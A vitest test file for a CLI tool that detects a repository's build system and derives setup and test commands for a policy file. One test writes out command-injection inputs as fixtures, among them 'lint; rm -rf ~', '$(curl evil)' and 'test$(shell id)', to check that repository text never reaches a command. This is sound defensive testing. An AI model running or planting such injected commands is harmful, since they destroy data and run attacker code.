import { expect, test } from 'vitest';
import { policyFile } from '../../../src/cli/init/policy-file.ts';
import { openRepositoryFiles } from '../../../src/cli/init/repository-files.ts';
import { detect } from '../../../src/config/detect/detect.ts';
import { readPolicy } from '../../../src/config/policy.ts';
import { folderWith } from '../cli/terminal.ts';

const pkg = (scripts: Record<string, string>) => JSON.stringify({ scripts });
const report = { format: 'junit', path: 'reports/unit.xml' };

test.each([
  ['nothing', {}, { setup: undefined, layers: {} }],
  [
    'npm',
    {
      'package.json': pkg({ lint: 'eslint .', typecheck: 'tsc', test: 'jest', smoke: 'x' }),
      'package-lock.json': '{}',
    },
    {
      setup: 'npm ci',
      layers: {
        static: { run: 'npm run lint && npm run typecheck' },
        unit: { run: 'npm test' },
        smoke: { run: 'npm run smoke' },
      },
    },
  ],
  [
    'npm without a lockfile and with the placeholder',
    { 'package.json': pkg({ test: 'echo "Error: no test specified" && exit 1' }) },
    { setup: 'npm install', layers: {} },
  ],
  [
    'pnpm with vitest',
    { 'package.json': pkg({ test: 'vitest', 'test:integration': 'x' }), 'pnpm-lock.yaml': '' },
    {
      setup: 'pnpm install --frozen-lockfile',
      layers: {
        unit: { run: 'pnpm test -- --run --reporter=junit --outputFile=reports/unit.xml', report },
        integration: { run: 'pnpm run test:integration' },
      },
    },
  ],
  [
    'yarn',
    { 'package.json': pkg({ 'test:unit': 'vitest run', test: 'everything' }), 'yarn.lock': '', '.yarnrc.yml': '' },
    {
      setup: 'yarn install --immutable',
      layers: { unit: { run: 'yarn run test:unit --reporter=junit --outputFile=reports/unit.xml', report } },
    },
  ],
  ['a broken package.json', { 'package.json': '{' }, { setup: 'npm install', layers: {} }],
  [
    'python with requirements',
    { 'requirements.txt': 'flask', 'requirements-dev.txt': 'pytest\nruff' },
    {
      setup: 'python -m pip install -r requirements-dev.txt -r requirements.txt',
      layers: {
        static: { run: 'python -m ruff check .' },
        unit: { run: 'python -m pytest --junitxml=reports/unit.xml', report },
      },
    },
  ],
  [
    'python with uv',
    { 'pyproject.toml': '[tool.pytest.ini_options]\n', 'uv.lock': '' },
    { setup: 'uv sync --frozen', layers: { unit: { run: 'uv run pytest --junitxml=reports/unit.xml', report } } },
  ],
  [
    'go',
    { 'go.mod': 'module x' },
    { setup: 'go mod download', layers: { static: { run: 'go vet ./...' }, unit: { run: 'go test ./...' } } },
  ],
  [
    'cargo',
    { 'Cargo.toml': '[package]' },
    { setup: 'cargo fetch', layers: { static: { run: 'cargo check --all-targets' }, unit: { run: 'cargo test' } } },
  ],
  [
    'make fills what go leaves open',
    { 'go.mod': 'module x', Makefile: 'lint := no\ntest:\n\tgo test\nsmoke: build\n\t./x\n' },
    {
      setup: 'go mod download',
      layers: { static: { run: 'go vet ./...' }, unit: { run: 'go test ./...' }, smoke: { run: 'make smoke' } },
    },
  ],
])('%s', async (_, files: Record<string, string>, expected) => {
  const detected = await detect(await openRepositoryFiles(folderWith(files)));
  expect(detected).toEqual(expected);
  const policy = readPolicy(policyFile(detected));
  expect(policy).toMatchObject({
    status: 'ok',
    policy: { layers: expected.layers, ...(expected.setup ? { setup: expected.setup } : {}) },
  });
});

test('no text of the repository gets into a command', async () => {
  const files = {
    'package.json': pkg({ 'lint; rm -rf ~': 'x', test: '$(curl evil)' }),
    Makefile: 'test$(shell id):\nlint\\;x:\n',
    'requirements;x.txt': 'pytest',
  };
  const { layers, setup } = await detect(await openRepositoryFiles(folderWith(files)));
  expect({ layers, setup }).toEqual({ setup: 'npm install', layers: { unit: { run: 'npm test' } } });
});

test('with the comments taken off, the examples are a policy too', () => {
  const text = policyFile({ layers: {} });
  expect(text).toMatchSnapshot();
  const opened = text.replace(
    /^(\s*)# (?=(setup|egress|layers|protected|approval|static|unit|integration|smoke| {2}run| {2}report): ?)/gm,
    '$1',
  );
  expect(readPolicy(opened)).toMatchObject({
    status: 'ok',
    policy: { layers: { unit: { report } }, approval: { requester: true } },
  });
});
